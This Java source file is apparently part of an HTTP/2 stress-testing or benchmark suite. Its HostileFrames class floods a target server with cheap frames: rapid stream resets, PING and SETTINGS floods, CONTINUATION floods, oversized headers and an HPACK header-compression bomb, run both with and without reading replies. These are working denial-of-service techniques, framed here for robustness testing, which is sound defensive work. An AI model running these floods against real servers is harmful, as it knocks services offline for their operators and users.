package dev.sfumato.benchmarks.hostile;

import dev.sfumato.benchmarks.hostile.wire.HostileConnection;
import dev.sfumato.benchmarks.hostile.wire.Http2Frame;
import dev.sfumato.benchmarks.hostile.wire.Target;
import java.io.IOException;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.Locale;
import java.util.Set;

/** Frames that cost a peer nothing to send: in thousands, with and without reading the replies. */
final class HostileFrames implements HostileAttack {
  private static final int FRAME_BYTES = 16_000;
  private static final int FAR_STREAM = 1;

  /** What is sent again and again. */
  private enum Kind {
    RAPID_RESET,
    PING,
    SETTINGS,
    WINDOW_UPDATE,
    PRIORITY,
    EMPTY_DATA,
    RESET_OF_NOTHING,
    CONTINUATION,
    HUGE_HEADERS,
    HEADER_BOMB
  }

  /** These are thousands of times as long as the others. */
  private static final Set<Kind> LONG =
      EnumSet.of(Kind.CONTINUATION, Kind.HUGE_HEADERS, Kind.HEADER_BOMB);

  private final int frames;

  HostileFrames(int frames) {
    this.frames = frames;
  }

  @Override
  public String name() {
    return "floods of frames";
  }

  @Override
  public void run(Target target, AttackTally tally) throws InterruptedException {
    for (Kind kind : Kind.values()) {
      flood(target, tally, kind, false);
      flood(target, tally, kind, true);
    }
  }

  private void flood(Target target, AttackTally tally, Kind kind, boolean deaf)
      throws InterruptedException {
    int number = LONG.contains(kind) ? frames / 20 : frames;
    int sent = 0;
    for (int tries = 0; sent < number && tries < frames && !target.isOver(); tries++) {
      sent += burst(target, tally, kind, deaf, number - sent);
    }
    tally.add(kind.name().toLowerCase(Locale.ROOT).replace('_', ' '), sent);
  }

  /** One connection, until it is ended or the number is reached; how many went out. */
  private static int burst(Target target, AttackTally tally, Kind kind, boolean deaf, int number)
      throws InterruptedException {
    int sent = 0;
    try (HostileConnection connection =
        deaf ? HostileConnection.openDeaf(target) : HostileConnection.open(target)) {
      byte[] headers = HostileConnection.deviceHeaders(target);
      begin(connection, headers, kind);
      for (; sent < number && !connection.isBroken() && !target.isOver(); sent++) {
        send(connection, headers, kind);
      }
    } catch (IOException e) {
      tally.count("hung up on");
      Thread.sleep(1);
    }
    return Math.max(sent, 1);
  }

  private static void begin(HostileConnection connection, byte[] headers, Kind kind)
      throws IOException {
    if (kind == Kind.EMPTY_DATA) {
      connection.openStream(headers, false);
    } else if (kind == Kind.CONTINUATION) {
      connection.frame(Http2Frame.HEADERS, 0, FAR_STREAM, headers);
    }
  }

  private static void send(HostileConnection connection, byte[] headers, Kind kind)
      throws IOException {
    switch (kind) {
      case RAPID_RESET -> connection.reset(connection.openStream(headers, false));
      case PING -> connection.frame(Http2Frame.PING, 0, 0, new byte[8]);
      case SETTINGS ->
          connection.frame(
              Http2Frame.SETTINGS, 0, 0, Http2Frame.setting(Http2Frame.INITIAL_WINDOW, 65_535));
      case WINDOW_UPDATE -> connection.frame(Http2Frame.WINDOW_UPDATE, 0, 0, Http2Frame.number(1));
      case PRIORITY -> connection.frame(Http2Frame.PRIORITY, 0, 3, new byte[] {0, 0, 0, 1, 1});
      case EMPTY_DATA -> connection.frame(Http2Frame.DATA, 0, FAR_STREAM, new byte[0]);
      case RESET_OF_NOTHING ->
          connection.frame(
              Http2Frame.RST_STREAM, 0, FAR_STREAM, Http2Frame.number(Http2Frame.CANCEL));
      case CONTINUATION ->
          connection.frame(
              Http2Frame.CONTINUATION,
              0,
              FAR_STREAM,
              Http2Frame.block("x", "y".repeat(FRAME_BYTES)));
      case HUGE_HEADERS ->
          connection.openStream(Http2Frame.block("x", "y".repeat(FRAME_BYTES)), true);
      case HEADER_BOMB -> connection.openStream(bomb(), true);
    }
  }

  /** One long header that goes into the peer's table, then a thousand references to it. */
  private static byte[] bomb() {
    byte[] literal = Http2Frame.block("x", "y".repeat(3_900));
    byte[] block = new byte[literal.length + 10_000];
    System.arraycopy(literal, 0, block, 0, literal.length);
    block[0] = 0x40;
    Arrays.fill(block, literal.length, block.length, (byte) (0x80 | 62));
    return block;
  }
}
